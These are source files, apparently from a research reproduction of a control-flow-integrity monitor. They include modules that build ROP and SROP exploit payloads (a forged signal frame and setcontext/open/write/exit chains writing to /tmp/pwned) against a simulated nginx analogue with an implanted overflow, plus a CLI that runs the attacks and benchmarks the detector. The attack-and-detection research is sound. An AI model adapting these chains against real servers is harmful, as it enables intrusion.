gadget with ``r0 = OPEN`` preloaded, SP redirected at a follow-up chain
that writes the attacker's data and exits.

FlowGuard detects it at the ``sigreturn`` endpoint: the ret-to-wrapper
edge is outside the ITC-CFG.
"""

from __future__ import annotations

import struct
from typing import Optional

from repro.attacks.gadgets import GadgetMap, find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import (
    ATTACK_DATA,
    build_filler,
    frame_glue,
)
from repro.isa.registers import NUM_REGS, SP
from repro.osmodel.kernel import FRAME_SIZE, _FRAME_MAGIC
from repro.osmodel.syscalls import O_CREAT, O_WRONLY, Sys
from repro.workloads.servers import NGINX_VULN_RET_OFFSET


def _p64(value: int) -> bytes:
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


def forge_frame(regs: dict, ip: int, flags: int = 0) -> bytes:
    """Forge a kernel signal frame (the kernel does not authenticate
    it — the SROP weakness)."""
    values = [0] * NUM_REGS
    for index, value in regs.items():
        values[index] = value & 0xFFFFFFFFFFFFFFFF
    frame = struct.pack(
        f"<{2 + NUM_REGS + 1}Q", _FRAME_MAGIC, *values, ip, flags
    )
    assert len(frame) == FRAME_SIZE
    return frame


def build_srop_payload(
    recon: ReconReport,
    conn_fd: int = 4,
    gadgets: Optional[GadgetMap] = None,
) -> bytes:
    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
    sigreturn_fn = gadgets.functions["sigreturn"]
    setcontext = gadgets.functions["setcontext"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]
    # The wrapper's own `syscall; ret` tail: mov(10 bytes) + syscall.
    syscall_gadget = next(
        addr for addr in gadgets.syscall_ret
        if addr == sigreturn_fn + 10
    )

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    glue = frame_glue(recon, conn_fd)

    # Stack picture after the overflow (low -> high):
    #   [filler 64][glue 24][&sigreturn][forged frame][chain2 ...]
    # ret pops &sigreturn; the wrapper's syscall then reads the frame at
    # SP.  The frame sets ip to the syscall;ret gadget with r0=OPEN and
    # SP to chain2, so open() executes and its ret starts chain2.
    chain2_off = (
        NGINX_VULN_RET_OFFSET + 8 + FRAME_SIZE
    )  # offset within the payload
    chain2_addr = recon.body_addr + chain2_off

    frame = forge_frame(
        {
            0: int(Sys.OPEN),
            1: path_addr,
            2: O_CREAT | O_WRONLY,
            SP: chain2_addr,
        },
        ip=syscall_gadget,
    )
    chain2 = b"".join(
        [
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            _p64(exit_fn),
        ]
    )
    return filler + glue + _p64(sigreturn_fn) + frame + chain2


def build_srop_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST", build_srop_payload(recon, conn_fd))
