"""The traditional ROP attack on the nginx analogue (§7.1.2).

Exploits the implanted Content-Length overflow: the payload overwrites
the handler's frame and chains *whole library functions* glued by
``setcontext`` register-loading gadgets —

    setcontext(path, O_CREAT|O_WRONLY) ; open()
    setcontext(fd, data, len)          ; write()   <- detected here
    exit()

— ending, like the paper's exploit, with arbitrary data written to an
attacker-chosen file.  FlowGuard flags the flow at the ``write``
endpoint: the hijacked returns target function entries instead of
call/return-matched sites, so the TIP pairs fall outside the ITC-CFG.
"""

from __future__ import annotations

import struct
from typing import Optional, Tuple

from repro.attacks.gadgets import GadgetMap, find_gadgets
from repro.attacks.recon import ReconReport
from repro.osmodel.syscalls import O_CREAT, O_WRONLY
from repro.workloads.servers import (
    NGINX_VULN_BUF_SIZE,
    NGINX_VULN_RET_OFFSET,
)

ATTACK_PATH = b"/tmp/pwned"
ATTACK_DATA = b"PWNED-BY-ROP\n"

_PATH_OFF = 0
_DATA_OFF = 16


def _p64(value: int) -> bytes:
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


def build_filler(body_addr: int) -> Tuple[bytes, int, int]:
    """The in-buffer scratch area: path and data strings.

    Returns (filler, path_addr, data_addr).
    """
    filler = bytearray(b"A" * NGINX_VULN_BUF_SIZE)
    filler[_PATH_OFF : _PATH_OFF + len(ATTACK_PATH) + 1] = ATTACK_PATH + b"\x00"
    filler[_DATA_OFF : _DATA_OFF + len(ATTACK_DATA) + 1] = ATTACK_DATA + b"\x00"
    return bytes(filler), body_addr + _PATH_OFF, body_addr + _DATA_OFF


def frame_glue(recon: ReconReport, conn_fd: int) -> bytes:
    """The three overwritten slots between the buffer and the return
    address: the ``line`` parameter (must stay a readable string for the
    post-overflow ``log_access`` call), the ``cfd`` parameter (kept
    valid so the 201 response still flows), and the saved FP."""
    return _p64(recon.body_addr) + _p64(conn_fd) + _p64(0)


def build_rop_payload(
    recon: ReconReport,
    conn_fd: int = 4,
    gadgets: Optional[GadgetMap] = None,
) -> bytes:
    """The raw overflow payload (body of the POST request)."""
    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    open_fn = gadgets.functions["open"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    chain = b"".join(
        [
            # open(path, O_CREAT|O_WRONLY)
            _p64(setcontext),
            _p64(path_addr),
            _p64(O_CREAT | O_WRONLY),
            _p64(0),
            _p64(0),
            _p64(open_fn),
            # write(fd, data, len) — fd predicted by recon
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            # exit(whatever)
            _p64(exit_fn),
        ]
    )
    payload = filler + frame_glue(recon, conn_fd) + chain
    assert len(filler) + 24 == NGINX_VULN_RET_OFFSET
    return payload


def build_rop_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    """The full HTTP-ish request carrying the ROP payload."""
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST", build_rop_payload(recon, conn_fd))
