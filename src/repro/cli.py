"""Command-line interface: ``python -m repro <command>``.

Commands:

- ``experiments [names...]`` — regenerate paper tables/figures
  (default: all).  Names: table1, sec2, table4, table5, fig5a, fig5b,
  fig5c, fig5d, micro, hwext, security, ablations, fleet.
- ``attack [rop|srop|retlib|flushing] [--engine ...]`` — run one
  attack unprotected and under FlowGuard.
- ``serve <server> [-n N] [--seed N] [--unprotected] [--engine ...]``
  — drive a protected server with N client sessions and print the
  monitor report; ``--seed`` switches the constant legacy workload to
  the load generator's deterministic ``varied`` request mix.
- ``bench [--scenario REF] [--seed N] [--json] [--out F]`` — the
  closed-loop load-generation harness (see :mod:`repro.loadgen`):
  sweep connection counts, find the saturation knee, then
  binary-search the max throughput whose latency percentile still
  meets the scenario's SLO.  ``REF`` is a builtin scenario name or a
  JSON file; ``--out`` writes the ``repro report``-renderable payload.
- ``fuzz <server> [--budget N]`` — run the miniature AFL campaign and
  report discovered paths.
- ``disasm <server|utility|spec-name>`` — dump a workload's entry
  function as assembly text.
- ``stats <server> [-n N] [--segment-cache N] [--edge-cache N]
  [--engine columnar|objects] [--faults PLAN] [--fault-seed N]
  [--plane] [--slo FILE] [--plane-out F] [--sample-interval N]
  [--trace-out F] [--spans-out F]`` —
  run a protected server with telemetry enabled and dump the
  versioned :class:`~repro.stats_report.StatsReport` (JSON),
  reconciled against the monitor's cycle accounting; the cache flags
  enable the fast-path decode/verdict caches and report their hit
  rates.  ``--engine objects`` falls back to the original per-packet
  decode engine (``columnar``, the default, produces identical
  verdicts and charged cycles in less wall-clock —
  e.g. ``repro stats nginx --engine objects`` to compare).
  ``--plane`` attaches the observability plane: the report gains the
  v3 ``slo`` section and the run exits 1 if the plane's own
  exact-accounting audit drifts; ``--plane-out`` writes the full
  plane dump (a ``repro report`` input).
- ``fleet [--processes N] [--workers M] [--policy stall|lossy]
  [--segment-cache N] [--edge-cache N] [--engine columnar|objects]
  [--faults PLAN] [--fault-seed N]`` —
  time-slice N protected server processes against M checker workers,
  optionally injecting a ROP attack into one of them
  (``--inject-rop``); exits non-zero if the cycle ledger drifts or an
  injected attack goes unquarantined.
- ``top [fleet flags] [--scenario REF] [--once] [--refresh K]
  [--sample-interval N] [--slo FILE] [--plane-out F]`` — the live
  fleet view: runs a fleet with the observability plane attached and
  renders a frame (per-pid checker lag, worker utilization, cache hit
  rates, SLO budget burn, flight-recorder tail) every K samples — or
  just the final frame with ``--once``.  ``--scenario`` runs a
  loadgen scenario at its upper connection bound instead of the
  fleet-shape flags, adding live offered-load / achieved-throughput /
  SLO-headroom rows to every frame.  Exit codes mirror ``fleet``'s
  gates plus the plane's exact-accounting audit.
- ``report <input.json> [-o F] [--format markdown|html]`` — render a
  self-contained run report from a plane dump (``--plane-out``), a
  ``BENCH_observability.json``, or a StatsReport v3 payload.

Shared option groups (implemented as argparse parent parsers, defined
once): the cache flags, the fault-injection flags (``--faults`` loads a
JSON :class:`~repro.resilience.FaultPlan`; ``--fault-seed`` reseeds it,
or arms the standard mix when no plan file is given), and the trace
exports (``--trace-out`` writes a Chrome ``chrome://tracing``
trace-event file, ``--spans-out`` raw JSON-lines spans).
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict, List, Optional

from repro import __version__


def _export_trace(tracer, args: argparse.Namespace) -> None:
    """Honor --trace-out/--spans-out if the subcommand defines them."""
    trace_out = getattr(args, "trace_out", None)
    if trace_out:
        count = tracer.export_chrome(trace_out)
        print(f"[trace: {count} spans -> {trace_out}]", file=sys.stderr)
    spans_out = getattr(args, "spans_out", None)
    if spans_out:
        count = tracer.export_jsonl(spans_out)
        print(f"[spans: {count} spans -> {spans_out}]", file=sys.stderr)


def _cmd_experiments(args: argparse.Namespace) -> int:
    from repro import telemetry
    from repro.experiments import (
        ablations,
        fig5a,
        fig5b,
        fig5c,
        fig5d,
        fleet_scaling,
        hwext_breakdown,
        micro,
        sec2_decode,
        security,
        table1,
        table4,
        table5,
    )

    registry: Dict[str, Callable[[], str]] = {
        "table1": lambda: table1.format_table(table1.run()),
        "sec2": lambda: sec2_decode.format_table(sec2_decode.run()),
        "table4": lambda: table4.format_table(table4.run()),
        "table5": lambda: table5.format_table(table5.run()),
        "fig5a": lambda: fig5a.format_table(fig5a.run()),
        "fig5b": lambda: fig5b.format_table(fig5b.run()),
        "fig5c": lambda: fig5c.format_table(fig5c.run()),
        "fig5d": lambda: fig5d.format_table(fig5d.run()),
        "micro": lambda: micro.format_table(micro.run()),
        "hwext": lambda: hwext_breakdown.format_table(
            hwext_breakdown.run()),
        "security": lambda: security.format_table(security.run()),
        "ablations": ablations.format_all,
        "fleet": lambda: fleet_scaling.format_table(
            fleet_scaling.run(quick=True)),
    }
    names = args.names or list(registry)
    unknown = [n for n in names if n not in registry]
    if unknown:
        print(f"unknown experiment(s): {', '.join(unknown)}",
              file=sys.stderr)
        print(f"available: {', '.join(registry)}", file=sys.stderr)
        return 2
    tel = telemetry.get_telemetry()
    enabled_here = bool(args.trace_out or args.spans_out) and not tel.enabled
    if enabled_here:
        tel.enable()
    try:
        for name in names:
            # Wall-clock timing flows through the tracer, the same code
            # path the trace exports read.
            with tel.tracer.span("experiment", experiment=name) as span:
                print(f"\n{registry[name]()}")
            print(f"[{name}: {span.duration_s:.1f}s]")
        _export_trace(tel.tracer, args)
    finally:
        if enabled_here:
            tel.disable()
    return 0


def _cmd_attack(args: argparse.Namespace) -> int:
    from repro.attacks import (
        build_flushing_request,
        build_retlib_request,
        build_rop_request,
        build_srop_request,
        run_recon,
    )
    from repro.attacks.rop import ATTACK_PATH
    from repro.monitor.policy import FlowGuardPolicy
    from repro.osmodel import Kernel, Sys
    from repro.pipeline import FlowGuardPipeline
    from repro.workloads import (
        build_libsim, build_nginx, build_vdso, nginx_request,
    )

    builders = {
        "rop": build_rop_request,
        "srop": build_srop_request,
        "retlib": build_retlib_request,
        "flushing": build_flushing_request,
    }
    libs = {"libsim.so": build_libsim()}
    recon = run_recon(build_nginx(), libs, vdso=build_vdso())
    request = builders[args.kind](recon)

    kernel = Kernel()
    kernel.register_program("nginx", build_nginx(), libs,
                            vdso=build_vdso())
    proc = kernel.spawn("nginx")
    proc.push_connection(request)
    kernel.run(proc)
    pwned = kernel.fs.exists(ATTACK_PATH.decode())
    print(f"unprotected: {'EXPLOITED' if pwned or proc.stdout else 'no effect'}")

    pipeline = FlowGuardPipeline.offline(
        "nginx", build_nginx(), libs, vdso=build_vdso(),
        corpus=[nginx_request("/index.html")], mode="socket",
    )
    kernel = Kernel()
    monitor, proc = pipeline.deploy(
        kernel, policy=FlowGuardPolicy(engine=args.engine)
    )
    proc.push_connection(request)
    kernel.run(proc)
    if monitor.detections:
        det = monitor.detections[0]
        print(f"FlowGuard:   DETECTED at {Sys(det.syscall_nr).name.lower()} "
              f"({det.path} path): {det.reason}")
        return 0
    print("FlowGuard:   NOT DETECTED")
    return 1


def _cmd_serve(args: argparse.Namespace) -> int:
    from repro import telemetry
    from repro.experiments.common import (
        run_server, seed_server_fs, server_requests,
    )

    from repro.monitor.policy import FlowGuardPolicy

    tel = telemetry.get_telemetry()
    enabled_here = bool(args.trace_out or args.spans_out) and not tel.enabled
    if enabled_here:
        tel.enable()
    try:
        run = run_server(
            args.server,
            server_requests(args.server, args.sessions, seed=args.seed),
            protected=not args.unprotected,
            policy=FlowGuardPolicy(engine=args.engine),
        )
        print(f"{args.server}: served with exit code {run.proc.exit_code}, "
              f"{run.proc.executor.insn_count} instructions, "
              f"{run.app_cycles:.0f} app cycles")
        if run.stats is not None:
            stats = run.stats
            print(f"monitor: {stats.checks} checks, "
                  f"{stats.slow_path_runs} slow-path runs, "
                  f"overhead {run.overhead * 100:.2f}% "
                  f"(trace {stats.trace_cycles:.0f} / decode "
                  f"{stats.decode_cycles:.0f} / check "
                  f"{stats.check_cycles:.0f} / other "
                  f"{stats.other_cycles:.0f})")
        _export_trace(tel.tracer, args)
    finally:
        if enabled_here:
            tel.disable()
    return 0


def _faults_from_args(args: argparse.Namespace):
    """The fault plan the shared ``--faults``/``--fault-seed`` flags
    describe: a JSON plan file, optionally reseeded — or the standard
    mix when only a seed is given.  None = fault-free."""
    plan = None
    if getattr(args, "faults", None):
        from repro.api import FaultPlan

        plan = FaultPlan.load(args.faults)
        if args.fault_seed is not None:
            plan = plan.with_seed(args.fault_seed)
    elif getattr(args, "fault_seed", None) is not None:
        from repro.api import FaultPlan

        plan = FaultPlan.standard_mix(seed=args.fault_seed)
    return plan


def _cmd_stats(args: argparse.Namespace) -> int:
    """Run a protected server under full telemetry and dump the
    StatsReport, reconciling the cycle profiler against MonitorStats."""
    from repro import telemetry
    from repro.api import FlowGuardPolicy, StatsReport, run_workload

    policy = None
    if args.segment_cache or args.edge_cache or args.engine != "columnar":
        policy = FlowGuardPolicy(
            segment_cache_entries=args.segment_cache,
            edge_cache_entries=args.edge_cache,
            engine=args.engine,
        )
    faults = _faults_from_args(args)
    tel = telemetry.get_telemetry()
    tel.reset()
    plane = _plane_from_args(args)
    if plane is not None:
        tel.attach_plane(plane)
    else:
        tel.enable()
    plane_audit = None
    try:
        run = run_workload(
            args.server,
            sessions=args.sessions,
            protected=True,
            policy=policy,
            faults=faults,
        )
        assert run.monitor is not None and run.stats is not None
        reconciliation = tel.profiler.reconcile(run.monitor.all_stats())
        slo = None
        if plane is not None:
            # Solo runs have no fleet clock: close the sampler on the
            # process's own cycle count before auditing.
            plane.finalize(run.proc.executor.cycles)
            plane.check_reconciliation("cycle-accounting", reconciliation)
            plane_audit = plane.reconcile(
                run.monitor.all_stats(),
                getattr(run.monitor, "degradations", None),
            )
            slo = plane.slo_report()
            if args.plane_out:
                plane.export(args.plane_out)
                print(f"[plane dump -> {args.plane_out}]", file=sys.stderr)
        payload = StatsReport.from_monitor(
            run.monitor,
            reconciliation=reconciliation,
            telemetry=tel.snapshot(),
            slo=slo,
            server=args.server,
            sessions=args.sessions,
        ).to_dict()
        _export_trace(tel.tracer, args)
    finally:
        if plane is not None:
            tel.detach_plane()
        tel.disable()
    json.dump(payload, sys.stdout, indent=2, default=str)
    print()
    for name in ("segment", "edge"):
        cache = payload["caches"].get(name)
        if cache is not None:
            print(f"[{name} cache: {cache['hits']} hits / "
                  f"{cache['misses']} misses "
                  f"({cache['hit_rate']:.1%} hit rate)]",
                  file=sys.stderr)
    if not reconciliation["exact"]:
        print("cycle accounting does NOT reconcile", file=sys.stderr)
        return 1
    resilience = payload["resilience"]
    if resilience is not None:
        ledger = resilience.get("ledger_reconcile")
        if ledger is not None and not ledger["exact"]:
            print("degradation ledger does NOT reconcile",
                  file=sys.stderr)
            return 1
    if plane_audit is not None and not plane_audit["exact"]:
        print("observability plane does NOT reconcile", file=sys.stderr)
        return 1
    return 0


def _build_fleet_service(args: argparse.Namespace):
    """The fleet the shared fleet-shape flags describe, workloads
    loaded; returns ``(service, config, attacked_pid)``.  Shared by
    ``fleet`` and ``top``."""
    import random

    from repro.api import Fleet, FleetConfig, RingPolicy
    from repro.experiments.common import (
        seed_server_fs, server_pipeline, server_requests,
    )

    servers = args.servers or ["nginx", "exim"]
    config = FleetConfig(
        workers=args.workers,
        quantum=args.quantum,
        ring_bytes=args.ring_bytes,
        ring_policy=RingPolicy(args.policy),
        max_queue_depth=args.queue_depth,
        decode_mode=args.decode_mode,
        decode_pool=args.decode_pool,
        pool=args.pool,
        index_shards=args.index_shards,
        segment_cache_entries=args.segment_cache,
        edge_cache_entries=args.edge_cache,
        engine=args.engine,
        seed=args.seed,
        faults=_faults_from_args(args),
    )
    service = Fleet.build(config)
    seed_server_fs(service.kernel)

    assignment = [servers[i % len(servers)]
                  for i in range(args.processes)]
    random.Random(args.seed).shuffle(assignment)
    attack_index = None
    rop = None
    if args.inject_rop:
        # The ROP payload targets nginx: make sure one instance exists
        # and attack it mid-stream, with clean sessions around it.
        if "nginx" not in assignment:
            assignment[0] = "nginx"
        attack_index = assignment.index("nginx")
        from repro.attacks import build_rop_request, run_recon
        from repro.experiments.common import libraries
        from repro.workloads import build_nginx, build_vdso

        recon = run_recon(build_nginx(), libraries(), vdso=build_vdso())
        rop = build_rop_request(recon)

    procs = []
    for index, name in enumerate(assignment):
        requests = list(server_requests(name, args.sessions))
        if index == attack_index:
            requests.insert(len(requests) // 2, rop)
        procs.append(
            service.add_workload(server_pipeline(name), requests)
        )
    attacked_pid = procs[attack_index].pid if attack_index is not None \
        else None
    return service, config, attacked_pid


def _cmd_fleet(args: argparse.Namespace) -> int:
    """Run a multi-process fleet under one monitor (see repro.fleet)."""
    service, config, attacked_pid = _build_fleet_service(args)
    result = service.run()

    print(f"fleet: {args.processes} processes x {args.workers} workers, "
          f"{config.ring_policy.value} rings of {config.ring_bytes} B, "
          f"quantum {config.quantum:.0f} cycles")
    for row in result.processes:
        status = "QUARANTINED" if row["quarantined"] else row["state"]
        print(f"  pid {row['pid']:>3} {row['name']:<8} {status:<11} "
              f"{row['checks']:>4} checks  {row['pmi_count']:>3} PMIs  "
              f"{row['stalls']:>3} stalls  "
              f"{row['app_cycles']:>10.0f} app cycles")
    for event in result.quarantines:
        lag = event.detected_at - event.enqueued_at
        print(f"  quarantine: pid {event.pid} ({event.name}) after "
              f"{lag:.0f} cycles"
              f"{' [posthumous]' if event.posthumous else ''} — "
              f"{event.reason}")
    print(f"  checks: {result.tasks} dispatched, "
          f"{result.dropped_checks} dropped; lag p50 "
          f"{result.lag['p50']:.0f} / p99 {result.lag['p99']:.0f} cycles")
    print(f"  workers: utilization "
          f"{', '.join(f'{u:.1%}' for u in result.worker_utilization)}")
    print(f"  overhead: {result.overhead:.2%} "
          f"(monitor {result.monitor_cycles:.0f} + stall "
          f"{result.stall_cycles:.0f} over app {result.app_cycles:.0f})")
    if result.caches:
        for name in ("segment", "edge"):
            cache = result.caches.get(name)
            if cache is not None:
                print(f"  {name} cache: {cache['hits']} hits / "
                      f"{cache['misses']} misses "
                      f"({cache['hit_rate']:.1%} hit rate)")
    resilience = result.resilience or {}
    if resilience.get("faults") is not None:
        fired = resilience["faults"]["fired"]
        active = {k: v for k, v in fired.items() if v}
        counts = resilience["degradations"]["counts"]
        print(f"  faults: "
              f"{', '.join(f'{k}={v}' for k, v in active.items()) or 'none fired'}")
        print(f"  degradations: "
              f"{', '.join(f'{k}={v}' for k, v in sorted(counts.items())) or 'none'}")
        print(f"  dead letters: {resilience['dead_letters']}  "
              f"ledger reconcile: "
              f"{'exact' if resilience['ledger_reconcile']['exact'] else 'DRIFT'}")
    if args.json:
        json.dump(result.to_dict(), sys.stdout, indent=2, default=str)
        print()

    if not result.accounting["exact"]:
        print("fleet cycle ledger does NOT reconcile with MonitorStats",
              file=sys.stderr)
        return 1
    ledger = resilience.get("ledger_reconcile")
    if ledger is not None and not ledger["exact"]:
        print("degradation ledger does NOT reconcile with telemetry",
              file=sys.stderr)
        return 1
    if attacked_pid is not None and \
            attacked_pid not in result.quarantined_pids:
        print(f"injected attack on pid {attacked_pid} was not "
              "quarantined", file=sys.stderr)
        return 1
    clean = [r for r in result.processes if r["pid"] != attacked_pid]
    if any(r["quarantined"] for r in clean):
        print("a clean process was quarantined (false positive)",
              file=sys.stderr)
        return 1
    return 0


def _cmd_bench(args: argparse.Namespace) -> int:
    """Closed-loop load bench: sweep, saturation knee, SLO search."""
    from dataclasses import replace

    from repro.experiments.common import format_rows
    from repro.loadgen import resolve_scenario, run_bench

    scenario = resolve_scenario(args.scenario)
    if args.engine is not None:
        scenario = replace(scenario, engine=args.engine)
    payload = run_bench(scenario, seed=args.seed)
    if args.out:
        with open(args.out, "w", encoding="utf-8") as fh:
            json.dump(payload, fh, indent=2, sort_keys=True)
            fh.write("\n")
        print(f"[bench payload -> {args.out}]", file=sys.stderr)
    if args.json:
        json.dump(payload, sys.stdout, indent=2, sort_keys=True)
        print()
        return 0

    sc = payload["scenario"]
    print(f"bench {sc['name']}: {sc['mode']} loop over "
          f"{', '.join(sc['servers'])} ({sc['mix']} mix), "
          f"{sc['sessions']} sessions/conn, "
          f"SLO p{sc['slo_percentile']:g} <= "
          f"{sc['slo_latency']:,.0f} cycles")
    print(format_rows(
        ["conns", "offered", "done", "req/Mcyc", "p50", "p99",
         "overhead", "exact"],
        [
            [p["connections"], f"{p['offered_load']:.1f}",
             p["completed"], f"{p['throughput']:.1f}",
             f"{p['latency'].get('p50', 0.0):.0f}",
             f"{p['latency'].get('p99', 0.0):.0f}",
             f"{p['overhead']:.2%}",
             "yes" if p["accounting_exact"] and p["ledger_exact"]
             else "NO"]
            for p in payload["sweep"]
        ],
    ))
    knee = payload["knee"]
    print(f"knee: {knee['connections']} connections at "
          f"{knee['throughput']:.1f} req/Mcycle"
          f"{'' if payload['monotone_to_knee'] else '  [NOT monotone]'}")
    search = payload["search"]
    if search["best_connections"] is None:
        print("slo search: even the lower bound misses the SLO")
    else:
        print(f"slo search: best {search['best_connections']} "
              f"connections at {search['max_throughput']:.1f} "
              f"req/Mcycle ({search['probes']} probes, "
              f"{'converged' if search['converged'] else 'NOT converged'})")
    for row in search["trace"]:
        print(f"  probe {row['probe']}: c={row['connections']} "
              f"p{sc['slo_percentile']:g}={row['latency']:,.0f} -> "
              f"{'met' if row['met'] else 'miss'} "
              f"[{row['lower']}, {row['upper']}]")
    return 0


def _plane_from_args(args: argparse.Namespace):
    """The ObservabilityPlane the shared plane flags describe, or None
    when the subcommand has the flags but none were given (``top``
    always attaches one: it has no ``--plane`` opt-in)."""
    from repro.telemetry.plane import ObservabilityPlane, SLOConfig

    wants = getattr(args, "plane", False) or args.slo or args.plane_out
    if not wants:
        return None
    slo = SLOConfig.load(args.slo) if args.slo else None
    return ObservabilityPlane(interval=args.sample_interval, slo=slo)


def _format_top_frame(service, plane, sample: dict) -> str:
    """One ``repro top`` frame: the fleet's live state at a sample."""
    now = sample["t"]
    lines = [
        f"repro top — t={now:,.0f} cycles   sample #{sample['seq']}   "
        f"interval {plane.sampler.interval:,.0f}"
    ]
    # Per-process rows: checker traffic grouped from the dispatcher's
    # task journal (read-only; nothing here charges cycles).
    by_pid: Dict[int, dict] = {}
    for task in service.dispatcher.tasks:
        row = by_pid.setdefault(
            task.pid, {"checks": 0, "lag_sum": 0.0, "lag_max": 0.0}
        )
        row["checks"] += 1
        row["lag_sum"] += task.lag
        row["lag_max"] = max(row["lag_max"], task.lag)
    lines.append(
        f"  {'pid':>4} {'name':<8} {'state':<11} {'quanta':>6} "
        f"{'app cycles':>11} {'checks':>6} {'lag mean':>9} {'lag max':>9}"
    )
    for entry in service.scheduler.entries:
        proc = entry.proc
        row = by_pid.get(proc.pid)
        checks = row["checks"] if row else 0
        mean = row["lag_sum"] / checks if checks else 0.0
        state = "QUARANTINED" if entry.quarantined else (
            "done" if entry.done else proc.state.value
        )
        lines.append(
            f"  {proc.pid:>4} {proc.name:<8} {state:<11} "
            f"{entry.quanta:>6} {proc.executor.cycles:>11,.0f} "
            f"{checks:>6} {mean:>9,.0f} "
            f"{row['lag_max'] if row else 0.0:>9,.0f}"
        )
    # Workers, caches, SLO burn, flight tail.
    pool = service.pool
    lines.append("  workers: " + "  ".join(
        f"w{i} {busy / now if now > 0 else 0.0:.0%} ({n} tasks)"
        for i, (busy, n) in enumerate(zip(pool.busy_cycles, pool.tasks_run))
    ))
    caches = service.monitor.cache_stats() or {}
    cache_bits = [
        f"{name} {cache['hit_rate']:.0%} hit "
        f"({cache['hits']}/{cache['hits'] + cache['misses']})"
        for name in ("segment", "edge")
        if (cache := caches.get(name)) is not None
    ]
    if cache_bits:
        lines.append("  caches:  " + ", ".join(cache_bits))
    # Live load-generation rows, present whenever a bench scenario is
    # driving the fleet (the tracker publishes ``loadgen.*`` series).
    counters = sample.get("counters", {})
    gauges = sample.get("gauges", {})
    if any(series.startswith("loadgen.")
           for series in list(counters) + list(gauges)):
        def total(name: str) -> float:
            return sum(
                value for series, value in counters.items()
                if series == name or series.startswith(name + "{")
            )

        completed = total("loadgen.completed")
        achieved = completed / now * 1e6 if now > 0 else 0.0
        bits = [f"offered {total('loadgen.offered'):.0f} req"]
        offered_load = gauges.get("loadgen.offered_load")
        if offered_load is not None:
            bits.append(f"load {offered_load:.1f}")
        bits += [
            f"done {completed:.0f}",
            f"inflight {gauges.get('loadgen.inflight', 0.0):.0f}",
            f"achieved {achieved:.1f} req/Mcycle",
        ]
        lines.append("  loadgen: " + "  ".join(bits))
        lat_bits = []
        p99s = [
            cell["p99"]
            for series, cell in sample.get("histograms", {}).items()
            if series.startswith("loadgen.latency")
        ]
        if p99s:
            lat_bits.append(f"p99 {max(p99s):,.0f} cycles")
        headroom = gauges.get("loadgen.slo_headroom")
        if headroom is not None:
            lat_bits.append(
                f"SLO headroom {headroom:+,.0f} cycles"
                + ("" if headroom >= 0 else " [MISS]")
            )
        if lat_bits:
            lines.append("  latency: " + "  ".join(lat_bits))
    lines.extend(_tenant_lines(sample))
    lines.extend(_slo_flight_lines(plane))
    return "\n".join(lines)


def _tenant_lines(sample: dict) -> List[str]:
    """Per-tenant serving rows, present whenever tenant-labelled
    series exist in the sample (the multi-tenant front-end labels
    everything it emits with the tenant's fault-domain tag)."""
    from repro.telemetry.plane import _series_base, _series_label

    counters = sample.get("counters", {})
    tenants = sorted({
        tenant
        for series in counters
        if (tenant := _series_label(series, "tenant"))
    })
    if not tenants:
        return []

    def total(name: str, tenant: str) -> float:
        return sum(
            value for series, value in counters.items()
            if _series_base(series) == name
            and _series_label(series, "tenant") == tenant
        )

    lines = [
        f"  {'tenant':<10} {'offered':>7} {'done':>6} {'shed':>5} "
        f"{'rounds':>6} {'throttle cyc':>12} {'degraded':>8}"
    ]
    for tenant in tenants:
        lines.append(
            f"  {tenant:<10} "
            f"{total('loadgen.offered', tenant):>7.0f} "
            f"{total('loadgen.completed', tenant):>6.0f} "
            f"{total('service.shed', tenant):>5.0f} "
            f"{total('service.rounds', tenant):>6.0f} "
            f"{total('service.throttle_cycles', tenant):>12,.0f} "
            f"{total('resilience.events', tenant):>8.0f}"
        )
    return lines


def _slo_flight_lines(plane) -> List[str]:
    """The SLO-burn and flight-tail frame footer ``top`` renders."""
    slo = plane.engine.evaluate(plane.sampler.samples)
    lines = ["  slo:     " + "  ".join(
        f"{o['name']}={'ok' if o['met'] else 'MISS'}"
        f"[burn {o['budget_burn']:.2f}]"
        for o in slo["objectives"]
    )]
    for event in list(plane.flight.events)[-3:]:
        lines.append(
            f"  flight:  #{event['seq']} t={event['t']:,.0f} "
            f"{event['kind']} pid={event['pid']} {event['detail']}"
        )
    return lines


def _format_service_frame(service, plane, sample: dict) -> str:
    """One ``repro top --serve-config`` frame: every tenant's live
    state — clock, rounds, checks, quarantines, quota — plus the
    tenant counter rows and the usual SLO/flight footer."""
    now = sample["t"]
    lines = [
        f"repro top — service {service.config.name}   "
        f"t={now:,.0f} cycles   sample #{sample['seq']}"
    ]
    lines.append(
        f"  {'tenant':<10} {'clock':>12} {'rounds':>6} {'checks':>6} "
        f"{'quar':>4} {'shed':>5} {'throttles':>9} {'reloads':>7}"
    )
    for rt in service.runtimes:
        ledger = rt.fleet.monitor.degradations
        lines.append(
            f"  {rt.name:<10} {rt.clock.now:>12,.0f} "
            f"{rt.fleet.scheduler.rounds:>6} "
            f"{len(rt.fleet.dispatcher.tasks):>6} "
            f"{len(rt.fleet.dispatcher.quarantines):>4} "
            f"{ledger.count('shed-load'):>5} "
            f"{rt.bucket.throttles:>9} "
            f"{len(rt.registry.versions):>7}"
        )
    lines.extend(_tenant_lines(sample))
    lines.extend(_slo_flight_lines(plane))
    return "\n".join(lines)


def _cmd_top(args: argparse.Namespace) -> int:
    """Live fleet view: a plane-attached fleet run rendered per sample."""
    from repro import telemetry
    from repro.telemetry.plane import ObservabilityPlane, SLOConfig

    tel = telemetry.get_telemetry()
